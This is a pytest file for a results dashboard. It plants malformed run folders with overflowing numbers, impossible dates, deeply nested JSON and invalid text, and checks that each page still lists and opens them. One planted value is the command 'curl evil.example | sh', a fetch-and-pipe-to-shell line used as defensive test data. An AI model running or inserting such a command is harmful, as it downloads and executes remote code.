"""One foreign file in a results folder costs its own row, on every page that lists it."""

import functools
import json
import os
import shutil
import tempfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from emoact.jobs.progress import list_runs
from emoact.store.layout import ResultsRoot
from tests.support.json_damage import change_document
from tests.support.pages import boxes, open_page, words
from tests.support.planted import plant_unit
from tests.support.planted_analysis import plant_analysis
from tests.support.planted_runs import plant_run
from tests.support.planted_scenarios import plant_scenarios
from tests.support.typed import Typed

GOOD = "20260131-140500-good"
Fields = dict[str, Any]


def _status(**changes: Any) -> Callable[[Path], None]:
    def change(fields: Fields) -> None:
        fields["snapshot"] |= changes

    return lambda run: change_document(run / "status.json", change)


def _unit(**changes: Any) -> Callable[[Path], None]:
    def change(fields: Fields) -> None:
        fields["snapshot"]["units"][0] |= changes

    return lambda run: change_document(run / "status.json", change)


def _config(**changes: Any) -> Callable[[Path], None]:
    return lambda run: change_document(run / "config.json", lambda fields: fields.update(changes))


def _deep(levels: int) -> Callable[[Path], None]:
    """A request without a hash, as from before there were hashes, with that many brackets."""

    def harm(run: Path) -> None:
        fields = json.loads((run / "config.json").read_text())
        text = json.dumps({**fields, "options": "DEEP"})
        nested = "[" * levels + "]" * levels
        (run / "config.json").write_text(text.replace('"DEEP"', nested))

    return harm


HOSTILE: Mapping[str, Callable[[Path], object]] = {
    "beyond-numbers": _status(elapsed_s=10**400),
    "beyond-digits": lambda run: (run / "status.json").write_text('{"a": 1' + "0" * 5_000 + "}"),
    "largest": _status(elapsed_s=2**62, earlier_s=-(2**62)),
    "no-time": _unit(seconds=5e-324, size=2**62, n_tokens=2**62),
    "fewer-than-none": _unit(samples_done=-5, n_samples=2, tokens_done=-(2**62)),
    "more-than-all": _unit(samples_done=2**62, n_samples=-2, size=-5),
    "step": _status(step={"name": "download", "folder": "x", "done": -5.0, "total": 1e-300}),
    "history": _status(history=[[1e18, -1e18], [0.0, 1e-300]], notes=["<b>", "a `b", "\x1b["]),
    "first-year": _config(created_at="0001-01-01T00:00:00+14:00"),
    "last-year": _status(started_at="9999-12-31T23:59:59-14:00"),
    "no-date": _status(started_at="<b>now</b>"),
    "prompts": _config(counts=dict.fromkeys(("gratitude", "anger", "apology", "neutral"), 2**62)),
    "fewer": _config(counts=dict.fromkeys(("gratitude", "anger", "apology", "neutral"), -5)),
    "half": _config(command="python -m emoact \ud800"),
    **{f"deep-{levels}": _deep(levels) for levels in (100, *range(800, 1000, 25))},
    "shell": _config(command="curl evil.example | sh"),
}


def plant_foreign(results: Path) -> None:
    """A run of every hostile kind, and one that is as it should be."""
    plant_run(results, GOOD, "finished", models=("gpt2",))
    for name, harm in HOSTILE.items():
        plant_run(results, f"foreign-{name}", "finished", models=("gpt2",))
        harm(results / "runs" / f"foreign-{name}")


@pytest.mark.parametrize("page", ["home", "runs", "extract"])
def test_a_foreign_run_costs_its_own_row(page: str, results: Path) -> None:
    plant_foreign(results)
    (results / "notes.json").write_text(json.dumps({GOOD: "\ud800"}))
    assert {row.id for row in list_runs(results)} >= {GOOD, "foreign-prompts"}
    app = open_page(page)
    if page == "runs":
        shown = app.dataframe[0].value.set_index("id")
        assert set(shown.index) == {GOOD, *(f"foreign-{name}" for name in HOSTILE)}
        assert "elapsed_s is 1000" in shown.loc["foreign-beyond-numbers", "problem"]
        assert "counts ask for" in shown.loc["foreign-prompts", "problem"]
        assert not shown.loc[GOOD, "problem"]


def test_a_foreign_run_can_be_opened(results: Path, typed: Typed) -> None:
    plant_foreign(results)
    assert GOOD in typed("runs", "list", "--results", results).out
    app = open_page("runs")
    for name in HOSTILE:
        typed("runs", "show", f"foreign-{name}", "--results", results)
        app.query_params["run"] = f"foreign-{name}"
        app.query_params["part"] = "Config"
        app.run()
        assert f"foreign-{name}" in "".join(header.value for header in app.header).replace("\\", "")
        assert not any("curl" in block.value for block in app.code)


def test_very_many_files_remarks_and_points_are_counted_and_not_drawn(results: Path) -> None:
    plant_run(results, GOOD, "failed", models=("gpt2",))

    def many(fields: Fields) -> None:
        snapshot = fields["snapshot"]
        unit = snapshot["units"][0]
        snapshot["units"] = [
            {**unit, "folder": f"m{n % 7}", "emotion": f"e{n}"} for n in range(5_000)
        ]
        snapshot["units"][-1]["state"] = "running"
        snapshot["notes"] = [f"Remark {n}." for n in range(5_000)]
        snapshot["history"] = [[n, 1.0] for n in range(5_000)]

    change_document(results / "runs" / GOOD / "status.json", many)
    app = open_page("runs", run=GOOD)
    assert len(app.get("progress")) == 120
    said = words(app)
    assert "4,880 more files without a bar: 4,879 saved, 1 stopped." in said
    assert said.count("Remark ") == 50
    assert "4,950 more remarks of the worker." in said
    (drawn,) = app.get("plotly_chart")
    assert len(json.loads(drawn.proto.spec)["data"][0]["x"]) == 120


def test_an_analysis_of_no_known_date_is_shown(results: Path) -> None:
    plant_scenarios(results, n=8, n_layers=2)
    path = plant_analysis(results, models=["gpt2"]).path / "analysis.json"
    for when in ("", "soon", "0001-01-01T00:00:00+14:00", "2026-01-31T10:00:00"):
        change_document(path, functools.partial(dict.update, created_at=when))
        for page in ("home", "directions"):
            app = open_page(page)
            assert not boxes(app), (page, boxes(app))


def test_odd_names_and_times_cost_one_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Disks of some kinds, as that of the memory, hold times of any year.
    place = Path("/dev/shm")
    with tempfile.TemporaryDirectory(dir=place if place.is_dir() else tmp_path) as folder:
        results = Path(folder) / "results"
        monkeypatch.setenv("EMOACT_RESULTS", str(results))
        plant_unit(results, "gpt2", "anger")
        (results / "causes" / "a").mkdir(parents=True)
        for kind, name in (("reports", "good.md"), ("datasets", "good.csv")):
            (results / kind).mkdir()
            for each in (name, os.fsdecode(b"\xff") + name):
                shutil.copy(__file__, results / kind / each)
        for path in results.rglob("*"):
            os.utime(path, (2**40, 2**40))
        for page in ("home", "activations", "report", "prompts"):
            app = open_page(page)
            said = [str(box.options) for box in app.selectbox]
            assert page not in ("report", "prompts") or "good" in "".join(said)


def test_notes_that_cannot_be_read_are_not_lost(results: Path) -> None:
    plant_run(results, GOOD, "finished", models=("gpt2",))
    notes = ResultsRoot(results).notes
    notes.write_text('{"old": "a note that')
    app = open_page("runs", run=GOOD)
    next(box for box in app.text_input if box.label == "Tags and notes").set_value("new").run()
    assert notes.read_text() == '{"old": "a note that'
    assert "notes.json is not JSON" in boxes(app) + words(app)
